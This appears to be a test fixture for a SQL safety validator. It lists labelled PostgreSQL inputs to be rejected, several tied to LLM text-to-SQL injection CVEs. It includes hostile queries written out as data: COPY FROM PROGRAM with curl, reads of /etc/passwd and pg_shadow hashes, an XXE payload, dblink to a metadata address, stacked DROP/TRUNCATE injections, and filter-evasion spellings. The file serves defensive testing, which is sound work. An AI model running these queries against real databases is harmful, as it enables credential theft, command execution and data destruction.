-- statement/insert: statement
INSERT INTO db_event (id) VALUES (1)

-- statement/update: statement
UPDATE db_event SET severity = 0

-- statement/delete: statement
DELETE FROM db_event

-- statement/merge: statement
MERGE INTO db_event e USING db_video v ON v.id = e.video_id WHEN MATCHED THEN DELETE

-- statement/drop: statement
DROP TABLE db_event

-- statement/truncate: statement
TRUNCATE db_event

-- statement/alter: statement
ALTER TABLE db_event DISABLE ROW LEVEL SECURITY

-- statement/create-function: statement
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'

-- statement/create-table-as: statement
CREATE TABLE t AS SELECT * FROM db_event

-- statement/create-extension: statement
CREATE EXTENSION dblink

-- statement/copy-program: statement
COPY (SELECT 1) TO PROGRAM 'id'

-- statement/copy-from-program: statement
COPY db_event FROM PROGRAM 'curl http://example.com/x'

-- statement/copy-to-file: statement
COPY db_event TO '/tmp/out'

-- statement/do: statement
DO $$ BEGIN PERFORM pg_sleep(10); END $$

-- statement/call: statement
CALL p()

-- statement/set: statement
SET app.scope = '1'

-- statement/set-role: statement
SET ROLE postgres

-- statement/set-local-statement-timeout: statement
SET LOCAL statement_timeout = 0

-- statement/set-transaction-read-write: statement
SET TRANSACTION READ WRITE

-- statement/reset: statement
RESET ALL

-- statement/show: statement
SHOW server_version

-- statement/begin: statement
BEGIN

-- statement/commit: statement
COMMIT

-- statement/rollback: statement
ROLLBACK

-- statement/savepoint: statement
SAVEPOINT a

-- statement/listen: statement
LISTEN x

-- statement/notify: statement
NOTIFY x, 'y'

-- statement/vacuum: statement
VACUUM FULL db_event

-- statement/lock: statement
LOCK TABLE db_event

-- statement/grant: statement
GRANT SELECT ON db_event TO PUBLIC

-- statement/prepare: statement
PREPARE p AS SELECT 1

-- statement/execute: statement
EXECUTE p

-- statement/declare-cursor: statement
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM db_event

-- statement/explain: statement
EXPLAIN SELECT * FROM db_event

-- statement/explain-analyze: statement
EXPLAIN ANALYZE DELETE FROM db_event

-- statement/comment-on: statement
COMMENT ON TABLE db_event IS 'x'

-- statement/security-label: statement
SECURITY LABEL ON TABLE db_event IS 'x'

-- statement/import-foreign-schema: statement
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public

-- statement/load: statement
LOAD 'auto_explain'

-- statement/checkpoint: statement
CHECKPOINT

-- statement/values: statement
VALUES (1), (2)

-- statement/empty: statement

-- statement/only-a-comment: statement
-- nothing to see

-- statement/two-selects: statement
SELECT 1; SELECT 2

-- statement/stacked-drop: statement
SELECT id FROM db_event; DROP TABLE db_event; --

-- statement/stacked-in-comment-tricks: statement
SELECT 1 /* ; */ ; /* x */ DELETE FROM db_event

-- statement/langchain-cve-2023-36189-drop: statement
DROP TABLE db_event CASCADE; SELECT 'done'

-- statement/commit-then-write: statement
COMMIT; BEGIN READ WRITE; DELETE FROM db_event

-- statement/llamaindex-cve-2024-23751-truncate: statement
SELECT 1; TRUNCATE TABLE db_video CASCADE

-- statement/delete-in-with: statement
WITH d AS (DELETE FROM db_event RETURNING id) SELECT id FROM d

-- statement/insert-in-with: statement
WITH d AS (INSERT INTO db_event (id) VALUES (1) RETURNING *) SELECT * FROM d

-- statement/update-in-with: statement
WITH d AS (UPDATE db_event SET severity = 0 RETURNING id) SELECT COUNT(*) FROM d

-- statement/merge-in-with: statement
WITH d AS (MERGE INTO db_event e USING db_video v ON v.id = e.video_id WHEN MATCHED THEN DELETE RETURNING e.id) SELECT id FROM d

-- statement/insert-in-nested-with: statement
SELECT * FROM (WITH d AS (DELETE FROM db_event RETURNING id) SELECT id FROM d) t

-- statement/with-before-delete: statement
WITH x AS (SELECT 1) DELETE FROM db_event

-- construct/select-into: construct
SELECT id INTO stolen FROM db_event

-- construct/select-into-temp: construct
SELECT * INTO TEMP t FROM db_event

-- construct/into-in-a-union: construct
SELECT id INTO x FROM db_event UNION SELECT 1

-- construct/for-update: construct
SELECT id FROM db_event FOR UPDATE

-- construct/for-share: construct
SELECT id FROM db_event FOR SHARE SKIP LOCKED

-- construct/for-update-in-subquery: construct
SELECT id FROM (SELECT id FROM db_event FOR NO KEY UPDATE) t

-- construct/for-key-share-in-cte: construct
WITH g AS (SELECT id FROM db_event FOR KEY SHARE) SELECT id FROM g

-- construct/recursive: construct
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r

-- construct/recursive-endless: construct
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT COUNT(*) FROM r

-- construct/tablesample: construct
SELECT id FROM db_event TABLESAMPLE SYSTEM (1)

-- construct/tablesample-bernoulli: construct
SELECT id FROM db_event e TABLESAMPLE BERNOULLI (10) REPEATABLE (1)

-- construct/natural-join: construct
SELECT * FROM db_event NATURAL JOIN db_video

-- construct/natural-left-join: construct
SELECT a.id FROM db_event a NATURAL LEFT JOIN db_event b

-- construct/only: construct
SELECT id FROM ONLY db_event

-- construct/collate: construct
SELECT id FROM db_event ORDER BY location COLLATE "ko-x-icu"

-- construct/xmlelement: construct
SELECT xmlelement(name x, description) FROM db_event

-- construct/xmltable: construct
SELECT x FROM xmltable('/a' PASSING '<a/>' COLUMNS x int)

-- construct/xmlparse-external-entity: construct
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')

-- construct/json-table: construct
SELECT * FROM json_table('[]', '$[*]' COLUMNS (a int PATH '$.a')) t

-- construct/json-object: construct
SELECT JSON_OBJECT('a': description) FROM db_event

-- construct/json-arrayagg: construct
SELECT JSON_ARRAYAGG(description) FROM db_event

-- construct/with-ordinality: construct
SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS t(a, b)

-- construct/rows-from: construct
SELECT * FROM ROWS FROM (generate_series(1, 2), generate_series(1, 3)) AS t(a, b)

-- construct/function-column-definitions: construct
SELECT * FROM json_to_record('{}') AS t(a int)

-- construct/lateral-function: construct
SELECT x FROM db_event e, LATERAL unnest(ARRAY[e.age]) AS t(x)

-- construct/array-subscript: construct
SELECT (ARRAY[1, 2])[1]

-- construct/array-slice: construct
SELECT ('{1,2}'::int[])[1:1]

-- construct/row-field: construct
SELECT (e).id FROM db_event e

-- construct/row-star: construct
SELECT (e).* FROM db_event e

-- construct/order-using: construct
SELECT id FROM db_event ORDER BY id USING >

-- construct/two-grouping-sets: construct
SELECT COUNT(*) FROM db_event GROUP BY ROLLUP (event_type), ROLLUP (gender)

-- construct/nested-grouping-sets: construct
SELECT COUNT(*) FROM db_event GROUP BY GROUPING SETS (ROLLUP (event_type), ROLLUP (gender))

-- construct/group-by-distinct: construct
SELECT COUNT(*) FROM db_event GROUP BY DISTINCT ROLLUP (event_type)

-- construct/cte-search: construct
WITH r AS (SELECT 1 AS n) SEARCH DEPTH FIRST BY n SET o SELECT n FROM r

-- construct/join-alias: construct
SELECT j.id FROM (db_event e JOIN db_video v ON v.id = e.video_id) AS j

-- construct/using-alias: construct
SELECT u.id FROM db_event a JOIN db_event b USING (id) AS u

-- construct/star-over-using: construct
SELECT * FROM db_event a JOIN db_event b USING (id)

-- construct/empty-list: construct
SELECT FROM db_event

-- construct/bit-string: construct
SELECT B'101'

-- construct/variadic: construct
SELECT concat(VARIADIC ARRAY['a', 'b'])

-- construct/default: construct
SELECT * FROM (VALUES (DEFAULT)) t

-- construct/merge-action: construct
SELECT merge_action()

-- construct/current-of: syntax
SELECT id FROM db_event WHERE CURRENT OF c

-- construct/overlay: function
SELECT OVERLAY(description PLACING description FROM 1) FROM db_event

-- construct/normalize: function
SELECT NORMALIZE(description) FROM db_event

-- construct/collation-for: function
SELECT COLLATION FOR (description) FROM db_event

-- table/auth-user: table
SELECT * FROM auth_user

-- table/users-of-this-product: table
SELECT password FROM db_user

-- table/tokens: table
SELECT digest FROM knox_authtoken

-- table/sessions: table
SELECT session_data FROM django_session

-- table/embeddings: table
SELECT * FROM db_eventembedding

-- table/exchanges: table
SELECT question, answer FROM db_exchange

-- table/pg-shadow: table
SELECT usename, passwd FROM pg_shadow

-- table/pg-authid: table
SELECT rolpassword FROM pg_catalog.pg_authid

-- table/pg-user: table
SELECT * FROM pg_user

-- table/pg-class: table
SELECT relname FROM pg_class

-- table/pg-attribute: table
SELECT attname FROM pg_attribute WHERE attrelid = 1

-- table/pg-stat-activity: table
SELECT query FROM pg_stat_activity

-- table/pg-stats: table
SELECT most_common_vals FROM pg_stats

-- table/pg-statistic: table
SELECT * FROM pg_statistic

-- table/pg-settings: table
SELECT name, setting FROM pg_settings

-- table/pg-file-settings: table
SELECT * FROM pg_file_settings

-- table/pg-hba-file-rules: table
SELECT * FROM pg_hba_file_rules

-- table/pg-largeobject: table
SELECT data FROM pg_largeobject

-- table/pg-proc: table
SELECT prosrc FROM pg_proc

-- table/pg-policies: table
SELECT * FROM pg_policies

-- table/pg-user-mappings: table
SELECT umoptions FROM pg_user_mappings

-- table/pg-prepared-statements: table
SELECT statement FROM pg_prepared_statements

-- table/pg-cursors: table
SELECT * FROM pg_cursors

-- table/pg-locks: table
SELECT * FROM pg_locks

-- table/pg-timezone-names: table
SELECT name FROM pg_timezone_names

-- table/information-schema-tables: table
SELECT table_name FROM information_schema.tables

-- table/information-schema-columns: table
SELECT column_name FROM information_schema.columns WHERE table_name = 'db_event'

-- table/other-schema: table
SELECT id FROM secret.db_event

-- table/pg-temp: table
SELECT id FROM pg_temp.db_event

-- table/pg-catalog-spelled: table
SELECT id FROM pg_catalog.db_event

-- table/database-named: construct
SELECT id FROM playhead.public.db_event

-- table/quoted-upper: table
SELECT id FROM "DB_EVENT"

-- table/quoted-with-dot: table
SELECT id FROM "public.db_event"

-- table/unicode-escaped: table
SELECT passwd FROM U&"\0070g_shadow"

-- table/homoglyph: table
SELECT id FROM db_еvent

-- table/in-exists: table
SELECT id FROM db_event WHERE EXISTS (SELECT 1 FROM pg_shadow)

-- table/in-scalar-subquery: table
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)

-- table/in-in: table
SELECT id FROM db_event WHERE id IN (SELECT usesysid FROM pg_user)

-- table/in-union: table
SELECT name FROM db_video UNION ALL SELECT usename FROM pg_user

-- table/in-cte: table
WITH s AS (SELECT rolname FROM pg_roles) SELECT rolname FROM s

-- table/in-unused-cte: table
WITH s AS (SELECT rolname FROM pg_roles) SELECT id FROM db_event

-- table/in-join-condition: table
SELECT e.id FROM db_event e JOIN db_video v ON v.id = (SELECT MAX(oid::int) FROM pg_class)

-- table/in-order-by: table
SELECT id FROM db_event ORDER BY (SELECT COUNT(*) FROM pg_class)

-- table/in-group-by: table
SELECT COUNT(*) FROM db_event GROUP BY (SELECT COUNT(*) FROM pg_class)

-- table/in-having: table
SELECT COUNT(*) FROM db_event HAVING COUNT(*) > (SELECT COUNT(*) FROM pg_class)

-- table/in-filter: table
SELECT COUNT(*) FILTER (WHERE EXISTS (SELECT 1 FROM pg_user)) FROM db_event

-- table/in-window: table
SELECT RANK() OVER (ORDER BY (SELECT 1 FROM pg_user)) FROM db_event

-- table/in-named-window: table
SELECT RANK() OVER w FROM db_event WINDOW w AS (PARTITION BY (SELECT 1 FROM pg_user))

-- table/in-case: table
SELECT CASE WHEN TRUE THEN (SELECT usename FROM pg_user LIMIT 1) END

-- table/in-coalesce: table
SELECT COALESCE(NULL, (SELECT usename FROM pg_user LIMIT 1))

-- table/in-array: table
SELECT ARRAY[(SELECT usename FROM pg_user LIMIT 1)]

-- table/in-array-subquery: table
SELECT ARRAY(SELECT usename FROM pg_user)

-- table/in-values: table
SELECT * FROM (VALUES ((SELECT usename FROM pg_user LIMIT 1))) t

-- table/in-lateral: table
SELECT v.id FROM db_video v, LATERAL (SELECT usename FROM pg_user LIMIT v.id) t

-- table/in-distinct-on: table
SELECT DISTINCT ON ((SELECT 1 FROM pg_user)) id FROM db_event

-- table/in-between: table
SELECT id FROM db_event WHERE id BETWEEN 1 AND (SELECT MAX(usesysid::int) FROM pg_user)

-- table/in-aggregate-order: table
SELECT STRING_AGG(DISTINCT event_type, ',' ORDER BY (SELECT 1 FROM pg_user)) FROM db_event

-- table/cte-forward: table
WITH a AS (SELECT n FROM b), b AS (SELECT 1 AS n) SELECT n FROM a

-- table/cte-out-of-scope: table
SELECT n FROM (WITH g AS (SELECT 1 AS n) SELECT n FROM g) t WHERE n IN (SELECT n FROM g)

-- table/cte-of-the-other-arm: table
SELECT 1 UNION (WITH g AS (SELECT 1 AS n) SELECT n FROM g) EXCEPT SELECT n FROM g

-- table/cte-spelled-with-schema: table
WITH g AS (SELECT 1 AS n) SELECT n FROM public.g

-- table/unknown-alias: table
SELECT x.id FROM db_event e

-- table/name-hidden-by-alias: table
SELECT db_event.id FROM db_event e

-- table/sibling-without-lateral: table
SELECT t.n FROM db_video v, (SELECT COUNT(*) AS n FROM db_event e WHERE e.video_id = v.id) t

-- table/on-does-not-see-earlier-item: table
SELECT e.id FROM db_video v, db_event e JOIN db_event x ON x.video_id = v.id AND x.id = e.id

-- column/hidden-owner: column
SELECT owner_id FROM db_video

-- column/hidden-file: column
SELECT v.file, v.sha256 FROM db_video v

-- column/hidden-attributes: column
SELECT attributes FROM db_event

-- column/hidden-bbox: column
SELECT e.bbox FROM db_event e

-- column/hidden-in-where: column
SELECT id FROM db_video WHERE owner_id = 1

-- column/hidden-in-order: column
SELECT id FROM db_event ORDER BY created_at

-- column/hidden-in-order-expression-behind-alias: column
SELECT id AS created_at FROM db_event ORDER BY created_at + 1

-- column/hidden-in-where-behind-alias: column
SELECT id AS owner_id FROM db_video WHERE owner_id = 1

-- column/hidden-in-having-behind-alias: column
SELECT COUNT(*) AS external_id FROM db_event HAVING MAX(external_id) > 'a'

-- column/hidden-in-window: column
SELECT RANK() OVER (ORDER BY created_at) AS created_at FROM db_event

-- column/hidden-in-group-expression: column
SELECT COUNT(*) FROM db_event GROUP BY lower(source)

-- column/hidden-in-join: column
SELECT e.id FROM db_event e JOIN db_video v ON v.owner_id = e.id

-- column/hidden-in-using: column
SELECT a.id FROM db_event a JOIN db_event b USING (created_at)

-- column/hidden-in-using-behind-derived: column
SELECT a.id FROM db_event a JOIN (SELECT id AS created_at FROM db_event) b USING (created_at)

-- column/hidden-in-extract: column
SELECT EXTRACT(YEAR FROM created_at) FROM db_event

-- column/hidden-in-distinct-on: column
SELECT DISTINCT ON (source) id FROM db_event

-- column/not-in-this-subquery: column
SELECT t.age FROM (SELECT id FROM db_event) t

-- column/ctid: column
SELECT ctid FROM db_event

-- column/xmin: column
SELECT e.xmin FROM db_event e

-- column/xmax: column
SELECT xmax FROM db_video

-- column/cmin: column
SELECT cmin FROM db_video

-- column/tableoid: column
SELECT tableoid FROM db_event

-- column/tableoid-cast: column
SELECT tableoid::regclass FROM db_event

-- column/ctid-in-where: column
SELECT id FROM db_event WHERE ctid = '(0,1)'

-- column/function-notation: column
SELECT e.row_to_json FROM db_event e

-- column/function-notation-text: column
SELECT e.text FROM db_event e

-- column/function-notation-name: column
SELECT e.name FROM db_event e

-- column/function-notation-of-a-subquery: column
SELECT t.lower FROM (SELECT location FROM db_event) t

-- column/schema-qualified: column
SELECT public.db_event.id FROM public.db_event

-- column/alias-in-having: column
SELECT event_type, COUNT(*) AS n FROM db_event GROUP BY 1 HAVING n > 1

-- column/alias-in-where: column
SELECT timestamp / 60 AS minute FROM db_event WHERE minute > 10

-- column/union-order-by-expression: column
SELECT id FROM db_event UNION SELECT id FROM db_video ORDER BY id + 1

-- column/union-order-by-input: column
SELECT id FROM db_event UNION SELECT id FROM db_event ORDER BY timestamp

-- column/star-of-nothing: column
SELECT *

-- column/star-of-unknown: column
SELECT x.* FROM db_event e

-- column/star-of-repeated-names: column
SELECT * FROM (SELECT id, age AS id FROM db_event) t

-- column/star-of-outer: column
SELECT (SELECT e.* FROM (SELECT 1 AS x) t) FROM db_event e

-- alias/hidden-column-between: alias
SELECT (SELECT created_at FROM db_event LIMIT 1) FROM (SELECT 1 AS created_at) t

-- alias/hidden-column-between-in-where: alias
WITH g AS (SELECT location AS source FROM db_event) SELECT g.source FROM g WHERE EXISTS (SELECT 1 FROM db_event e WHERE e.location = source)

-- alias/hidden-column-between-lateral: alias
SELECT t.x FROM (SELECT 1 AS owner_id) o, LATERAL (SELECT owner_id AS x FROM db_video) t

-- alias/column-list-on-table: alias
SELECT a, b FROM db_event AS e(a, b)

-- alias/column-list-renames-hidden: alias
SELECT id FROM db_video AS v(a, b, c, d, e, f, g, h, i, j, k, id)

-- alias/column-list-on-cte: alias
WITH g AS (SELECT id FROM db_event) SELECT x FROM g AS t(x)

-- alias/column-list-too-short: alias
SELECT a FROM (SELECT id, age FROM db_event) AS t(a)

-- alias/cte-column-list-too-short: alias
WITH g(a) AS (SELECT id, age FROM db_event) SELECT a FROM g

-- alias/spelled-like-a-column: alias
SELECT age FROM db_video AS age

-- alias/spelled-like-a-column-aggregate: alias
SELECT COUNT(location) FROM db_event AS location

-- whole_row/subquery-spelled-like-a-column: whole_row
SELECT severity FROM (SELECT 1 AS x) AS severity

-- alias/cte-spelled-like-a-table: alias
WITH db_event AS (SELECT 1 AS id) SELECT id FROM db_event

-- alias/cte-spelled-like-the-other-table: alias
WITH db_video AS (SELECT id FROM db_event) SELECT id FROM db_video

-- alias/cte-twice: alias
WITH a AS (SELECT 1 AS n), a AS (SELECT 2 AS n) SELECT n FROM a

-- alias/cte-shadows-cte: alias
WITH a AS (SELECT 1 AS n) SELECT n FROM (WITH a AS (SELECT 2 AS n) SELECT n FROM a) t

-- alias/twice: alias
SELECT e.id FROM db_event e JOIN db_video e ON e.id = e.video_id

-- alias/twice-through-table-name: alias
SELECT 1 FROM db_event JOIN db_video db_event ON TRUE

-- alias/subquery-without: alias
SELECT id FROM (SELECT id FROM db_event)

-- alias/group-by-two-outputs: alias
SELECT age AS x, gender AS x FROM db_event GROUP BY x

-- whole_row/table-alias: whole_row
SELECT e FROM db_event e

-- whole_row/table-name: whole_row
SELECT db_video FROM db_video

-- whole_row/count: whole_row
SELECT COUNT(e) FROM db_event e

-- whole_row/row-to-json: function
SELECT row_to_json(e) FROM db_event e

-- whole_row/to-jsonb: function
SELECT to_jsonb(v) FROM db_video v

-- whole_row/cast-to-text: whole_row
SELECT e::text FROM db_event e

-- whole_row/cast-star: whole_row
SELECT e.*::text FROM db_event e

-- whole_row/concat: whole_row
SELECT 'x' || e FROM db_event e

-- whole_row/concat-function: whole_row
SELECT CONCAT(e) FROM db_event e

-- whole_row/concat-star: whole_row
SELECT CONCAT(e.*) FROM db_event e

-- whole_row/compared: whole_row
SELECT a.id FROM db_event a JOIN db_event b ON a = b

-- whole_row/is-null: whole_row
SELECT id FROM db_event e WHERE e IS NOT NULL

-- whole_row/row-star: whole_row
SELECT ROW(e.*) FROM db_event e

-- whole_row/row-in-list: whole_row
SELECT (id, age) FROM db_event

-- whole_row/row-cast: whole_row
SELECT ROW(id, age)::text FROM db_event

-- whole_row/array-agg: whole_row
SELECT ARRAY_AGG(e) FROM db_event e

-- whole_row/min: whole_row
SELECT MIN(v) FROM db_video v

-- whole_row/in-order-by: whole_row
SELECT id FROM db_event e ORDER BY e

-- whole_row/in-group-by: whole_row
SELECT COUNT(*) FROM db_event e GROUP BY e

-- whole_row/outer-table: whole_row
SELECT (SELECT v FROM (SELECT 1 AS x) t) FROM db_video v

-- whole_row/of-cte: whole_row
WITH g AS (SELECT 1 AS n) SELECT g FROM g

-- whole_row/in-distinct-on: whole_row
SELECT DISTINCT ON (e) id FROM db_event e

-- whole_row/count-star-of-table: whole_row
SELECT COUNT(e.*) FROM db_event e

-- function/pg-sleep: function
SELECT pg_sleep(100)

-- function/pg-sleep-in-where: function
SELECT id FROM db_event WHERE pg_sleep(10) IS NULL

-- function/pg-sleep-for: function
SELECT pg_sleep_for('1 hour')

-- function/pg-sleep-until: function
SELECT pg_sleep_until('2030-01-01')

-- function/pg-sleep-in-from: function
SELECT * FROM pg_sleep(10) AS t

-- function/pg-sleep-schema: function
SELECT pg_catalog.pg_sleep(1)

-- function/pg-sleep-upper: function
SELECT PG_SLEEP(1)

-- function/pg-sleep-quoted: function
SELECT "pg_sleep"(1)

-- function/pg-sleep-unicode-escaped: function
SELECT U&"\0070g_sleep"(1)

-- function/pg-sleep-unicode-escaped-own-escape: function
SELECT U&"!0070g_sleep" UESCAPE '!' (1)

-- function/pg-sleep-comment-inside: function
SELECT pg_sleep/**/(1)

-- function/pg-sleep-in-case: function
SELECT CASE WHEN TRUE THEN pg_sleep(1) END

-- function/pg-sleep-in-subquery: function
SELECT id FROM db_event WHERE id = (SELECT 1 FROM pg_sleep(5))

-- function/pg-sleep-in-order: function
SELECT id FROM db_event ORDER BY pg_sleep(1)

-- function/pg-sleep-in-filter: function
SELECT COUNT(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM db_event

-- function/pg-sleep-in-window: function
SELECT RANK() OVER (PARTITION BY pg_sleep(1)) FROM db_event

-- function/pg-sleep-in-values: function
SELECT * FROM (VALUES (pg_sleep(1))) t

-- function/pg-sleep-in-join: function
SELECT e.id FROM db_event e JOIN db_video v ON v.id = e.video_id AND pg_sleep(1) IS NULL

-- function/pg-sleep-in-array: function
SELECT id FROM db_event WHERE id = ANY (ARRAY[pg_sleep(1)])

-- function/pg-sleep-in-limit: constant
SELECT id FROM (SELECT id FROM db_event LIMIT (SELECT 1 FROM pg_sleep(1))) t

-- function/pg-read-file: function
SELECT pg_read_file('/etc/passwd')

-- function/pg-read-binary-file: function
SELECT pg_read_binary_file('/etc/passwd')

-- function/pg-ls-dir: function
SELECT * FROM pg_ls_dir('/') AS t

-- function/pg-ls-waldir: function
SELECT * FROM pg_ls_waldir() AS t

-- function/pg-stat-file: function
SELECT * FROM pg_stat_file('/etc/passwd') AS t

-- function/pg-current-logfile: function
SELECT pg_current_logfile()

-- function/pg-file-write: function
SELECT pg_file_write('/tmp/x', 'y', false)

-- function/lo-import: function
SELECT lo_import('/etc/passwd')

-- function/lo-export: function
SELECT lo_export(1, '/tmp/x')

-- function/lo-from-bytea: function
SELECT lo_from_bytea(0, 'x')

-- function/lo-get: function
SELECT lo_get(1)

-- function/lo-put: function
SELECT lo_put(1, 0, 'x')

-- function/lo-create: function
SELECT lo_create(0)

-- function/lo-unlink: function
SELECT lo_unlink(1)

-- function/dblink: construct
SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)

-- function/dblink-without-columns: function
SELECT dblink('host=example.com', 'SELECT 1')

-- function/dblink-connect: function
SELECT dblink_connect('host=169.254.169.254')

-- function/dblink-exec: function
SELECT dblink_exec('dbname=x', 'DROP TABLE db_event')

-- function/query-to-xml: function
SELECT query_to_xml('SELECT * FROM pg_shadow', true, true, '')

-- function/query-to-xml-and-xmlschema: function
SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')

-- function/table-to-xml: function
SELECT table_to_xml('pg_shadow', true, true, '')

-- function/schema-to-xml: function
SELECT schema_to_xml('public', true, true, '')

-- function/database-to-xml: function
SELECT database_to_xml(true, true, '')

-- function/cursor-to-xml: function
SELECT cursor_to_xml('c', 1, true, true, '')

-- function/xpath: function
SELECT xpath('/a', '<a/>')

-- function/ts-stat: function
SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow') AS t

-- function/ts-rewrite: function
SELECT ts_rewrite('a'::text, 'SELECT 1')

-- function/set-config: function
SELECT set_config('app.scope', '1', true)

-- function/set-config-in-materialized-cte: function
WITH x AS MATERIALIZED (SELECT set_config('app.video_ids', '1,2,3', true) AS s) SELECT e.id FROM x, db_event e

-- function/set-config-statement-timeout: function
SELECT set_config('statement_timeout', '0', false)

-- function/set-config-role: function
SELECT set_config('role', 'postgres', false)

-- function/set-config-schema: function
SELECT pg_catalog.set_config('role', 'postgres', false)

-- function/current-setting: function
SELECT current_setting('app.scope')

-- function/current-setting-data-directory: function
SELECT current_setting('data_directory')

-- function/version: function
SELECT version()

-- function/current-database: function
SELECT current_database()

-- function/current-schemas: function
SELECT current_schemas(true)

-- function/current-user: function
SELECT CURRENT_USER

-- function/session-user: function
SELECT SESSION_USER

-- function/user: function
SELECT USER

-- function/current-role: function
SELECT CURRENT_ROLE

-- function/current-catalog: function
SELECT CURRENT_CATALOG

-- function/current-schema: function
SELECT CURRENT_SCHEMA

-- function/current-query: function
SELECT current_query()

-- function/inet-server-addr: function
SELECT inet_server_addr()

-- function/pg-backend-pid: function
SELECT pg_backend_pid()

-- function/pg-terminate-backend: function
SELECT pg_terminate_backend(1)

-- function/pg-cancel-backend: function
SELECT pg_cancel_backend(1)

-- function/pg-reload-conf: function
SELECT pg_reload_conf()

-- function/pg-rotate-logfile: function
SELECT pg_rotate_logfile()

-- function/pg-switch-wal: function
SELECT pg_switch_wal()

-- function/pg-create-restore-point: function
SELECT pg_create_restore_point('x')

-- function/pg-advisory-lock: function
SELECT pg_advisory_lock(1)

-- function/pg-try-advisory-lock: function
SELECT pg_try_advisory_lock(1)

-- function/pg-advisory-xact-lock: function
SELECT pg_advisory_xact_lock(1)

-- function/pg-notify: function
SELECT pg_notify('x', 'y')

-- function/pg-logical-emit-message: function
SELECT pg_logical_emit_message(true, 'a', 'b')

-- function/pg-export-snapshot: function
SELECT pg_export_snapshot()

-- function/txid-current: function
SELECT txid_current()

-- function/nextval: function
SELECT nextval('db_event_id_seq')

-- function/setval: function
SELECT setval('db_event_id_seq', 1)

-- function/currval: function
SELECT currval('db_event_id_seq')

-- function/lastval: function
SELECT lastval()

-- function/pg-get-viewdef: function
SELECT pg_get_viewdef(1)

-- function/pg-get-functiondef: function
SELECT pg_get_functiondef(1)

-- function/pg-get-userbyid: function
SELECT pg_get_userbyid(10)

-- function/pg-relation-size: function
SELECT pg_relation_size('db_user')

-- function/pg-total-relation-size: function
SELECT pg_total_relation_size('db_user')

-- function/pg-database-size: function
SELECT pg_database_size('postgres')

-- function/pg-column-size: function
SELECT pg_column_size(description) FROM db_event

-- function/has-table-privilege: function
SELECT has_table_privilege('postgres', 'pg_shadow', 'select')

-- function/has-column-privilege: function
SELECT has_column_privilege('db_video', 'owner_id', 'select')

-- function/pg-has-role: function
SELECT pg_has_role('postgres', 'member')

-- function/row-security-active: function
SELECT row_security_active('db_event')

-- function/to-regclass: function
SELECT to_regclass('db_user')

-- function/to-regrole: function
SELECT to_regrole('postgres')

-- function/obj-description: function
SELECT obj_description(1, 'pg_class')

-- function/col-description: function
SELECT col_description(1, 1)

-- function/format-type: function
SELECT format_type(23, -1)

-- function/pg-typeof: function
SELECT pg_typeof(id) FROM db_event

-- function/pg-stat-get-activity: function
SELECT * FROM pg_stat_get_activity(NULL) AS t

-- function/pg-show-all-settings: function
SELECT * FROM pg_show_all_settings() AS t

-- function/pg-ls-tmpdir: function
SELECT * FROM pg_ls_tmpdir() AS t

-- function/pg-config: function
SELECT * FROM pg_config() AS t

-- function/pg-promote: function
SELECT pg_promote()

-- function/pg-log-backend-memory-contexts: function
SELECT pg_log_backend_memory_contexts(1)

-- function/pg-stat-reset: function
SELECT pg_stat_reset()

-- function/pg-import-system-collations: function
SELECT pg_import_system_collations('public')

-- function/binary-upgrade: function
SELECT binary_upgrade_set_missing_value(1, 'a', 'b')

-- function/postgres-fdw-disconnect: function
SELECT postgres_fdw_disconnect_all()

-- function/aws-s3-export: function
SELECT * FROM aws_s3.query_export_to_s3('SELECT 1', 'bucket') AS t

-- function/aws-lambda: function
SELECT aws_lambda.invoke('f', '{}')

-- function/json-agg: function
SELECT json_agg(id) FROM db_event

-- function/json-build-object: function
SELECT json_build_object('a', id) FROM db_event

-- function/jsonb-path-query: function
SELECT * FROM jsonb_path_query('{}', '$') AS t

-- function/xmlagg: function
SELECT xmlagg(x) FROM db_event

-- function/encode: function
SELECT encode('a', 'hex')

-- function/convert-from: function
SELECT convert_from('a', 'utf8')

-- function/chr: function
SELECT chr(65)

-- function/random: function
SELECT random()

-- clock/now: clock
SELECT e.id FROM db_event e WHERE e.occurred_at < now()

-- clock/now-qualified: clock
SELECT e.id FROM db_event e WHERE e.occurred_at < pg_catalog.now()

-- clock/now-shifted: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at >= NOW() - INTERVAL '1 hour'

-- clock/now-in-a-zone: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at >= date_trunc('day', now() AT TIME ZONE 'Asia/Seoul') AT TIME ZONE 'Asia/Seoul'

-- clock/current-date: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at::date = CURRENT_DATE - 1

-- clock/current-timestamp: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at < CURRENT_TIMESTAMP

-- clock/current-timestamp-precision: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at < CURRENT_TIMESTAMP(0)

-- clock/current-time: clock
SELECT CURRENT_TIME

-- clock/localtime: clock
SELECT LOCALTIME(3)

-- clock/localtimestamp: clock
SELECT COUNT(*) FROM db_event WHERE occurred_at < LOCALTIMESTAMP(0)

-- clock/clock-timestamp: clock
SELECT clock_timestamp()

-- clock/statement-timestamp: clock
SELECT statement_timestamp()

-- clock/transaction-timestamp: clock
SELECT transaction_timestamp()

-- clock/timeofday: clock
SELECT timeofday()

-- clock/cast-now: clock
SELECT 'now'::timestamptz

-- clock/typed-today: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at >= TIMESTAMPTZ 'today'

-- clock/typed-yesterday-date: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at::date = DATE 'yesterday'

-- clock/typed-tomorrow-at: clock
SELECT TIMESTAMP 'Tomorrow 14:00 Asia/Seoul'

-- clock/typed-odd-order: clock
SELECT TIMESTAMPTZ '14:00 KST today'

-- clock/cast-upper-and-spaces: clock
SELECT CAST('  NOW ' AS timestamp)

